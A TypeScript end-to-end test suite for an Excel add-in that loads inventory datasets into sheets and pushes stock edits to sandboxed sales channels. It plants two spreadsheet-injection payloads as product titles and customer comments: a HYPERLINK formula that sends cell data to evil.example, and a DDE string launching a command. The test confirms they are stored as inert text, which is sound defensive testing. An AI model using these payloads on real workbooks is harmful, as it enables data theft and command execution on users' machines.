// End to end against the real server: `npm start`'s startDemo (demo data generated and loaded,
// analytics built, demo tokens, HTTPS) serving the production bundle, the channel sandboxes of
// pipeline/channels seeded from the warehouse with the write-back's writers pointed at them
// (CROSSDOCK_<CHANNEL>_URL, as an operator would configure real channels), and the pane in
// headless Chromium with office.js replaced by the fake Excel host.
import { generateCertificates } from 'office-addin-dev-certs';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { ensureMartsFresh } from '../../pipeline/analytics';
import { seedFromWarehouse, type StartedSandboxes } from '../../pipeline/channels/sandbox/start';
import { sandboxWriterEnv } from '../../pipeline/writeback/writers';
import type { StartHook } from '../../pipeline/server/hooks';
import { startDemo, type StartedDemo } from '../../pipeline/server/start';
import { bumpDataVersion } from '../../pipeline/warehouse/duckdb';
import { headerLabel } from '../../addin/core/headers';
import type { CellInfo } from '../support/fakeExcel';
import { connect, ensureBundle, openPane, requireChromium, screenshotPane, screenshotSheet, settle, workbook, ADDIN_DIR, type PaneSession } from './support/browser';

jest.setTimeout(300_000);

const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click for refund")';
const HOSTILE_COMMENT = "=cmd|' /C calc'!A0";

interface ApiDataset {
  columns: Array<{ name: string; type: string }>;
  rows: unknown[][];
}

function expectedCell(value: unknown, type: string): unknown {
  if (value === null) return '';
  // The add-in writes float noise around zero as 0 (so it never shows as -0.00).
  if (typeof value === 'number' && Math.abs(value) < 1e-9) return 0;
  if (type === 'date') return (Date.parse(`${value as string}T00:00:00Z`) - Date.UTC(1899, 11, 30)) / 86_400_000;
  if (type === 'timestamp') return Math.round((Date.parse(value as string) - Date.UTC(1899, 11, 30)) / 1000) / 86_400;
  return value;
}

/** Calls the API from inside the page (same origin, same TLS trust as the pane). */
async function api<T>(page: Page, token: string, path: string): Promise<T> {
  return page.evaluate(async ([p, t]) => (await fetch(p, { headers: { Authorization: `Bearer ${t}` } })).json(), [path, token] as const) as Promise<T>;
}

describe('the Excel add-in against crossdock serve on demo data and the channel sandboxes', () => {
  const dir = mkdtempSync(join(tmpdir(), 'cd-addin-e2e-'));
  const env = { ...process.env };
  let demo: StartedDemo;
  let sandboxes: StartedSandboxes;
  let session: PaneSession | null = null;

  beforeAll(async () => {
    requireChromium();
    ensureBundle();
    const tls = { ca: join(dir, 'ca.crt'), cert: join(dir, 'localhost.crt'), key: join(dir, 'localhost.key') };
    const quiet = jest.spyOn(console, 'log').mockImplementation(() => undefined);
    await generateCertificates(tls.ca, tls.cert, tls.key);
    quiet.mockRestore();
    const sandboxHook: StartHook = {
      name: 'e2e channel sandboxes',
      run: async ({ warehouse }) => {
        // Attacker-controlled text as a marketplace would deliver it: a product title that is a
        // formula. Bumping the data version makes the analytics rebuild with it.
        await warehouse.transaction(async (conn) => {
          await conn.run('update sku set title = $1 where sku = (select min(sku) from sku)', [HOSTILE_TITLE]);
          await conn.run('update listing set title = $1 where sku = (select min(sku) from sku)', [HOSTILE_TITLE]);
          // and a return comment (return_reasons shows the latest one per reason)
          await conn.run('update return_line set customer_comment = $1', [HOSTILE_COMMENT]);
          await bumpDataVersion(conn);
        });
        // The server answers from the previous build while a rebuild runs; build now so the
        // first refresh already shows the planted text.
        await ensureMartsFresh(warehouse);
        sandboxes = await seedFromWarehouse(warehouse, { quiet: true, rateLimits: false });
        const { urls } = sandboxes;
        // Every sandbox channel gets a writer but AliExpress, whose rows must be refused CHANNEL_NOT_CONFIGURED.
        const { aliexpress: _notConfigured, ...configured } = urls;
        Object.assign(process.env, sandboxWriterEnv(configured));
        return () => sandboxes.stop();
      },
    };
    demo = await startDemo({ db: join(dir, 'data', 'crossdock.duckdb'), port: 0, cert: tls.cert, key: tls.key, buildAddin: false, addinDir: ADDIN_DIR, demo: { skus: 6, days: 30 }, startHooks: [sandboxHook], serveHooks: [], say: () => undefined });
  });

  afterEach(async () => {
    await session?.close();
    session = null;
  });

  afterAll(async () => {
    await demo?.close();
    for (const k of Object.keys(process.env)) if (!(k in env)) delete process.env[k];
    rmSync(dir, { recursive: true, force: true });
  });

  it('refreshes every dataset of the demo into sheets whose cells equal the API rows', async () => {
    session = await openPane(demo.server.url, { ignoreHTTPSErrors: true });
    const { page } = session;
    await connect(page, demo.server.url, demo.managerToken);
    await page.click('#select-all');
    await page.click('#refresh-button');
    const notices = await settle(page, 120_000);
    const { datasets } = await api<{ datasets: Array<{ name: string }> }>(page, demo.managerToken, '/api/v1/datasets');
    // Every dataset of the server, plus the stock ledger and the allocation rules; an empty result is a warning.
    expect(notices[0]).toMatch(new RegExp(`^Refreshed ${datasets.length + 2} datasets`));
    for (const { name } of datasets) {
      const fromApi = await api<ApiDataset>(page, demo.managerToken, `/api/v1/datasets/${name}`);
      const records = await workbook<Array<Record<string, unknown>>>(page, 'tableRecords', `Crossdock_${name}`);
      // An empty result keeps one blank row so the table exists.
      expect([name, records.length]).toEqual([name, Math.max(1, fromApi.rows.length)]);
      // Columns measured against the clock move between the pane's fetch and ours.
      const clockBound = new Set(fromApi.columns.map((c, j) => (/^hours_since_/.test(c.name) ? j : -1)).filter((j) => j >= 0));
      // Rows that tie on the dataset's sort order may come back in either order: compare as sets.
      // DuckDB's parallel sums differ in the last bits between two queries: compare 12 digits.
      const key = (cells: unknown[]) => JSON.stringify(cells.filter((_, j) => !clockBound.has(j)).map((v) => (typeof v === 'number' ? Number(v.toPrecision(12)) : v)));
      // Cells are read by header (the stock sheet puts its key and editable columns first).
      const got = records.slice(0, fromApi.rows.length).map((r) => key(fromApi.columns.map((c) => r[headerLabel(c.name, 'en')]))).sort();
      const want = fromApi.rows.map((row) => key(fromApi.columns.map((c, j) => expectedCell(row[j], c.type)))).sort();
      expect([name, got]).toEqual([name, want]);
    }
    for (const table of ['Crossdock_inventory', 'Crossdock_stock']) {
      const titles = await workbook<CellInfo[]>(page, 'columnCells', table, 'Title');
      expect([table, titles.filter((c) => c.kind !== 'text' && c.kind !== 'empty')]).toEqual([table, []]);
      expect([table, titles.some((c) => c.value === HOSTILE_TITLE && c.kind === 'text')]).toEqual([table, true]);
    }
    const comments = await workbook<CellInfo[]>(page, 'columnCells', 'Crossdock_return_reasons', 'Latest customer comment');
    expect(comments.filter((c) => c.kind !== 'text' && c.kind !== 'empty')).toEqual([]);
    expect(comments.some((c) => c.value === HOSTILE_COMMENT && c.kind === 'text')).toBe(true);
    const charts = await workbook<{ charts: Array<{ type: string }> }>(page, 'sheetInfo', 'Return reasons');
    expect(charts.charts.map((c) => c.type)).toEqual(['Pie']);
    await screenshotPane(page, 'real-pane-refreshed');
    await screenshotSheet(session, 'Aged inventory', 'real-sheet-aged-inventory');
    await screenshotSheet(session, 'Turnover', 'real-sheet-turnover');
    await screenshotSheet(session, 'Order ops', 'real-sheet-order-ops');
    await screenshotSheet(session, 'FBA reconciliation', 'real-sheet-fba-reconciliation');
    await screenshotSheet(session, 'Slow movers', 'real-sheet-slow-movers');
    await screenshotSheet(session, 'Transfers', 'real-sheet-transfers');
    await screenshotSheet(session, 'Forecast', 'real-sheet-forecast');
    await screenshotSheet(session, 'Forecast accuracy', 'real-sheet-forecast-accuracy');
  });

  it('pushes stock edits to the sandboxes: applied, conflict, failed then retried, rejected and invalid rows', async () => {
    session = await openPane(demo.server.url, { ignoreHTTPSErrors: true });
    const { page } = session;
    await connect(page, demo.server.url, demo.managerToken);
    await page.click('#select-none');
    await page.check('#ds-stock');
    await page.click('#refresh-button');
    await settle(page, 120_000);

    const stock = await api<ApiDataset>(page, demo.managerToken, '/api/v1/datasets/stock');
    const col = (n: string) => stock.columns.findIndex((c) => c.name === n);
    const rows = stock.rows.map((r) => ({ listing: String(r[col('listing')]), channel: String(r[col('channel')]), editable: r[col('editable')] === true, qty: r[col('channel_quantity')] as number | null }));
    const pick = (channel: string, editable: boolean, skip: string[] = []) => {
      const found = rows.find((r) => r.channel === channel && r.editable === editable && r.qty !== null && !skip.includes(r.listing));
      if (!found) throw new Error(`the demo has no ${editable ? 'editable' : 'read-only'} ${channel} listing`);
      return found;
    };
    const applied = pick('shopify', true);
    const conflict = pick('shopify', true, [applied.listing]);
    const failed = pick('ebay', true);
    const notConfigured = pick('aliexpress', true);
    const fba = rows.find((r) => !r.editable);
    const type = (listing: string, value: number) => workbook(page, 'typeInto', 'Crossdock_stock', 'Listing', listing, 'New quantity', value);
    await type(applied.listing, (applied.qty as number) + 5);
    await type(conflict.listing, (conflict.qty as number) + 1);
    await type(failed.listing, (failed.qty as number) + 2);
    await type(notConfigured.listing, 1);
    if (fba) await type(fba.listing, 3);

    await page.click('#review');
    await settle(page);
    expect(await page.textContent('#plan-summary')).toBe(`3 ready to push, 1 rejected by the server, ${fba ? 1 : 0} invalid.`);
    const status = (listing: string) => workbook<string>(page, 'valueAt', 'Crossdock_stock', 'Listing', listing, 'Status');
    expect(await status(notConfigured.listing)).toBe('rejected');
    if (fba) expect(await status(fba.listing)).toBe('invalid');

    // Meanwhile the channel changes on its own, and eBay starts failing every row.
    sandboxes.sandboxes.shopify!.setQuantity(conflict.listing, (conflict.qty as number) + 7);
    sandboxes.sandboxes.ebay!.configureFaults({ errorRate: 1 });
    await page.click('#push');
    const pushed = await settle(page, 120_000);
    // The rejected and invalid rows of the review are still on the sheet: the summary counts them.
    expect(pushed).toEqual([`Applied 1, pending verification 0, conflict 1, failed 1, rejected 1, invalid ${fba ? 1 : 0}.`]);
    expect(await workbook(page, 'valueAt', 'Crossdock_stock', 'Listing', conflict.listing, 'Message')).toBe(`Changed on the channel, now ${(conflict.qty as number) + 7}: refresh the stock sheet and edit again.`);
    expect(await page.$$eval('#row-issues button.issue', (l) => l.length)).toBe(3 + (fba ? 1 : 0));
    expect(await Promise.all([applied, conflict, failed].map((r) => status(r.listing)))).toEqual(['applied', 'conflict', 'failed']);
    expect(sandboxes.sandboxes.shopify!.quantity(applied.listing)).toBe((applied.qty as number) + 5);
    expect(sandboxes.sandboxes.shopify!.quantity(conflict.listing)).toBe((conflict.qty as number) + 7);
    expect(sandboxes.sandboxes.ebay!.quantity(failed.listing)).toBe(failed.qty);
    expect(await workbook(page, 'valueAt', 'Crossdock_stock', 'Listing', applied.listing, 'Baseline quantity')).toBe((applied.qty as number) + 5);
    await screenshotPane(page, 'real-pane-pushed');
    await screenshotSheet(session, 'Stock', 'real-sheet-stock-pushed');

    sandboxes.sandboxes.ebay!.configureFaults({ errorRate: 0 });
    await page.click('#retry');
    expect(await settle(page, 120_000)).toEqual([`Applied 1, pending verification 0, conflict 1, failed 0, rejected 1, invalid ${fba ? 1 : 0}.`]);
    expect(sandboxes.sandboxes.ebay!.quantity(failed.listing)).toBe((failed.qty as number) + 2);
    expect(await status(failed.listing)).toBe('applied');

    // The ledger of these pushes, on the Changes sheet, row for row what the server's ledger says.
    await page.click('#select-none');
    await page.check('#ds-stock_changes');
    await page.click('#refresh-button');
    await settle(page, 120_000);
    const ledger = await api<{ changes: Array<{ change_id: string; listing_id: string; change_status: string; sent_quantity_units: number | null; requested_by: string }> }>(page, demo.managerToken, '/api/v1/stock/changes?limit=50000');
    const records = await workbook<Array<Record<string, unknown>>>(page, 'tableRecords', 'Crossdock_stock_changes');
    expect(records).toHaveLength(ledger.changes.length);
    const label: Record<string, string> = { applied: 'applied', conflict: 'conflict', failed: 'failed', rejected: 'rejected', pending_verification: 'pending verification' };
    const fromSheet = records.map((r) => [r.Change, r.Listing, r.Result, r.Sent === '' ? null : r.Sent, r.Who]).sort();
    const fromApi = ledger.changes.map((c) => [c.change_id, c.listing_id, label[c.change_status] ?? c.change_status, c.sent_quantity_units, c.requested_by]).sort();
    expect(fromSheet).toEqual(fromApi);
    await screenshotSheet(session, 'Changes', 'real-sheet-changes');
  });

  it('keeps Push disabled for the demo analyst token', async () => {
    session = await openPane(demo.server.url, { ignoreHTTPSErrors: true });
    const { page } = session;
    await connect(page, demo.server.url, demo.analystToken);
    expect(await page.isDisabled('#push')).toBe(true);
    expect(await page.textContent('#push-disabled-reason')).toContain('analyst role');
  });
});
